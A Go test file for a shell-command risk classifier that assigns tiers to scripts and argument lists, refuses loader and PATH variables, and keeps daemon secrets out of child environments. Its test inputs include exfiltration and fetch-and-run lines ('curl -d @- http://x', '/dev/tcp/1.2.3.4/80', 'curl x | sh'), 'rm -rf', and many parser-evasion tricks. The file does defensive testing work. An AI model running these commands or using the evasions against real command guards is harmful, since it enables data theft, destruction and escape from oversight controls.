package shellexec

import (
	"slices"
	"strings"
	"testing"
	"time"

	"holdpoint/op"
)

func TestTiers(t *testing.T) {
	for _, c := range []struct {
		script string
		want   op.Tier
		found  string // command words that must be among those found
	}{
		{"ls -la | wc -l", op.T1, "ls wc"},
		{"cat a | grep b | curl -d @- http://x", op.T3, "cat grep curl"},
		{"rm -rf build", op.T4, "rm"},
		{"r\\m -rf x", op.T4, "rm"},
		{`"r"m x`, op.T4, "rm"},
		{"mkdir -p a && touch a/b", op.T2, "mkdir touch"},
		{"echo x > f", op.T2, "echo"},
		{"echo x > /dev/null", op.T1, "echo"},
		{"echo x > /dev/tcp/1.2.3.4/80", op.T4, "echo"},
		{"make test", op.T3, "make"},
		{"./ls", op.T3, "./ls"},
		{"rm${IFS}-rf x", op.T4, ""},
		{"$CMD x", op.T4, ""},
		{"$'\\x72m' x", op.T4, ""},
		{"eval 'rm x'", op.T4, "eval"},
		{"bash -c 'rm -rf x'", op.T4, "bash rm"},
		{"sh -c 'ls'", op.T3, "sh ls"},
		{"curl x | sh", op.T4, "curl sh"},
		{"python3 -c 'x'", op.T4, "python3"},
		{"node script.js", op.T3, "node"},
		{"ls | xargs rm", op.T4, "ls xargs"},
		{"f() { rm x; }; f", op.T4, "rm"},
		{"if true; then rm x; fi", op.T4, "rm"},
		{"for i in a b; do curl $i; done", op.T3, "curl"},
		{"PATH=. ls", op.T4, "ls"},
		{"X=1 ls", op.T3, "ls"},
		{"trap 'rm x' EXIT", op.T4, "trap"},
		{"cat <(rm x)", op.T4, "cat rm"},
		{"cat <<E\n$(rm x)\nE\n", op.T4, "cat rm"},
		{"cat <<'E'\n$(rm x)\nE\n", op.T1, "cat"},
		{"sh <<E\nrm x\nE\n", op.T4, "sh"},
		{"echo *", op.T3, ""},
	} {
		r := ReadScript(c.script)
		if r.Tier != c.want {
			t.Errorf("%q: got %s, want %s: %+v", c.script, r.Tier, c.want, r.Commands)
		}
		var words []string
		for _, cmd := range r.Commands {
			words = append(words, cmd.Words...)
		}
		for _, w := range strings.Fields(c.found) {
			if !slices.Contains(words, w) {
				t.Errorf("%q: %s was not found in %q", c.script, w, words)
			}
		}
	}
	t.Run("X58 what cannot be read takes the highest tier", func(t *testing.T) {
		for _, s := range []string{"echo 'unterminated", "if true", "a\x00b", strings.Repeat("(", 5000), strings.Repeat("x ", MaxScript), `echo "${x@P}"`, "echo ${!a}", "$(printf rm) -rf x", "`echo rm` x"} {
			begin := time.Now()
			if r := ReadScript(s); r.Tier != op.T4 {
				t.Errorf("%.40q: got %s", s, r.Tier)
			}
			if d := time.Since(begin); d > time.Second {
				t.Errorf("%.40q took %v", s, d)
			}
		}
	})
	t.Run("S41 (part) what a builtin would expand in an index of an array takes the highest tier", func(t *testing.T) {
		for _, s := range []string{`printf -v 'a[$(touch c)]' x`, "printf -v \"a[\\$(touch c)]\" x", `test -v 'a[$(touch c)]'`, `[ -v 'a[0` + "`touch c`" + `]' ]`, `read 'a[$(touch c)]'`, `x='a[$(touch c)]'; echo $((x))`} {
			if r := ReadScript(s); r.Tier != op.T4 {
				t.Errorf("%q: got %s", s, r.Tier)
			}
		}
		if r := ReadScript(`printf '[%s]' x; test -v a; grep '[a-z]$(' f`); r.Tier != op.T1 {
			t.Errorf("plain words: got %+v", r)
		}
	})
	t.Run("S53 (part) what a command is fed by a redirection is named", func(t *testing.T) {
		r := ReadScript("sh <'a b' 2>/dev/null </dev/null")
		var fed []string
		for _, c := range r.Commands {
			if c.Reads != "" {
				fed = append(fed, c.Reads)
			}
		}
		if !slices.Equal(fed, []string{"a b"}) {
			t.Errorf("got %q", fed)
		}
	})
	t.Run("S54 (part) the program behind exec is read as well", func(t *testing.T) {
		if r := ReadScript("exec tool x"); r.Tier != op.T4 || len(r.Commands) != 2 || r.Commands[1].Words[0] != "tool" {
			t.Errorf("got %+v", r)
		}
	})
	t.Run("S49 (part) beyond any number of parts the last one still counts", func(t *testing.T) {
		if r := ReadScript(strings.Repeat("true; ", 60) + "rm x"); r.Tier != op.T4 || len(r.Commands) != 61 {
			t.Errorf("got %s, %d commands", r.Tier, len(r.Commands))
		}
	})
	t.Run("S40 (part) every line is read", func(t *testing.T) {
		for _, s := range []string{"ls\nrm c", "ls\r\nrm c", "ls #\nrm c"} {
			if r := ReadScript(s); r.Tier != op.T4 {
				t.Errorf("%q: got %s", s, r.Tier)
			}
		}
	})
}

func TestArgv(t *testing.T) {
	for _, c := range []struct {
		argv string
		want op.Tier
	}{
		{"ls -la", op.T1}, {"find . -name x", op.T1}, {"find . -exec touch c ;", op.T4}, {"find . -delete", op.T4}, {"find . -fprint c", op.T4}, {"find . -okdir x ;", op.T4},
		{"sed -n 1,3p f", op.T1}, {"sed -i s/a/b/ f", op.T4}, {"sed s/x/y/e f", op.T4}, {"sed -n 1wc f", op.T4}, {"sed --in-place=.bak s/a/b/ f", op.T4},
		{"sed -n 1p f -e 1etouch f", op.T4}, {"sed -n 1p -f x", op.T4}, {"sort -ro c f", op.T4}, {"sort -k2o f", op.T1}, {"sort -uT/x f", op.T4},
		{"uniq f", op.T1}, {"uniq -f 1 f", op.T1}, {"uniq -c f c", op.T2},
		{"sort f", op.T1}, {"sort --compress-program=./x f", op.T4}, {"sort --compress=./x f", op.T4}, {"sort -of f", op.T4},
		{"git status", op.T2}, {"git -c alias.status=!x status", op.T4}, {"git -C .. status", op.T4}, {"git --exec-path=. status", op.T4}, {"git push", op.T3}, {"git push --force", op.T4},
		{"git reset --hard", op.T4}, {"git commit -m x", op.T3}, {"env -S sh", op.T4}, {"env sh -c rm", op.T4}, {"env GIT_PAGER=x git log", op.T4}, {"env X=1 ls", op.T3}, {"timeout 5 rm x", op.T4},
		{"nice ls", op.T3}, {"sudo ls", op.T4}, {"bash", op.T4}, {"bash run.sh", op.T3}, {"go test ./...", op.T3}, {"npm install", op.T3}, {"unheard-of", op.T3},
	} {
		if r := ReadArgv(strings.Fields(c.argv)); r.Tier != c.want {
			t.Errorf("%q: got %s (%+v), want %s", c.argv, r.Tier, r.Commands, c.want)
		}
	}
	t.Run("X56 (part) what waits for typing is found by its words", func(t *testing.T) {
		for argv, want := range map[string]bool{"python3 -i": true, "python3": true, "bash -i": true, "bash": true, "node": true, "bash -c ls": false, "python3 x.py": false, "ls -i": false} {
			if got := ReadArgv(strings.Fields(argv)).Interactive; got != want {
				t.Errorf("%q: got %v", argv, got)
			}
		}
	})
}

func TestExtra(t *testing.T) {
	t.Run("C124 the loader's and the path's variables are refused, and no malformed name is taken", func(t *testing.T) {
		for _, name := range []string{"LD_PRELOAD", "PATH", "DYLD_INSERT_LIBRARIES", "BASH_FUNC_ls%%", "A=B", "", "A\x00", "1A", "ld_preload"} {
			if _, err := Extra(op.Object{name: "x"}); op.AsError(err) == nil || op.AsError(err).Code != op.BadRequest {
				t.Errorf("%q: got %v", name, err)
			}
		}
		if got, err := Extra(op.Object{"B": "2", "A": "1"}); err != nil || !slices.Equal(got, []string{"A=1", "B=2"}) {
			t.Errorf("got %v %v", got, err)
		}
		many := op.Object{}
		for i := range 300 {
			many["V"+strings.Repeat("x", i)] = ""
		}
		if _, err := Extra(many); op.AsError(err) == nil || op.AsError(err).Code != op.TooLarge {
			t.Errorf("too many: got %v", err)
		}
	})
	t.Run("S79 (part) nothing of the daemon's environment is passed on but what is named", func(t *testing.T) {
		daemon := map[string]string{"AWS_SECRET_ACCESS_KEY": "canary", "HOLDPOINT_TOKEN": "canary", "BASH_ENV": "canary", "LANG": "de_DE", "GOPROXY": "off", "LD_PRELOAD": "canary"}
		env := Environ(func(k string) string { return daemon[k] }, []string{"GOPROXY", "LD_PRELOAD", "BASH_ENV"}, []string{"X=1"}, "/bin", Private)
		all := strings.Join(env, "\n")
		if strings.Contains(all, "canary") || !slices.Contains(env, "GOPROXY=off") || !slices.Contains(env, "X=1") || !slices.Contains(env, "PATH=/bin") || !slices.Contains(env, "LANG=de_DE") {
			t.Errorf("got %s", all)
		}
	})
}

func TestCounts(t *testing.T) {
	for _, c := range []struct {
		name, out      string
		passed, failed int
		known          bool
	}{
		{"go", "=== RUN   TestA\n--- PASS: TestA (0.00s)\n    --- FAIL: TestB/x (0.00s)\n--- FAIL: TestB (0.10s)\nFAIL\nFAIL\tm\t0.1s\n", 1, 2, true},
		{"go quiet", "ok  \tm\t0.1s\n", 0, 0, true},
		{"pytest", "===== 2 failed, 31 passed, 1 error in 0.12s =====\n", 31, 3, true},
		{"cargo", "test result: ok. 5 passed; 1 failed; 0 ignored; 0 measured; 0 filtered out\ntest result: ok. 2 passed; 0 failed; 0 ignored\n", 7, 1, true},
		{"node", "# tests 3\n# pass 2\n# fail 1\n", 2, 1, true},
		{"node spec", "ℹ pass 4\nℹ fail 0\n", 4, 0, true},
		{"none", "all 5 passed\n", 0, 0, false},
	} {
		if p, f, k := Counts(c.out); p != c.passed || f != c.failed || k != c.known {
			t.Errorf("%s: got %d %d %v", c.name, p, f, k)
		}
	}
}

func FuzzReadScript(f *testing.F) {
	for _, s := range []string{"ls | wc", "rm -rf x", "a=1 b", "f() { x; }", "[[ a ]] && b", "cat <<E\nx\nE\n", "${x@P}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r := ReadScript(s)
		if r.Tier.Rank() < 1 || r.Tier.Rank() > 4 || r.Unread != "" && r.Tier != op.T4 {
			t.Errorf("%q: %+v", s, r)
		}
	})
}
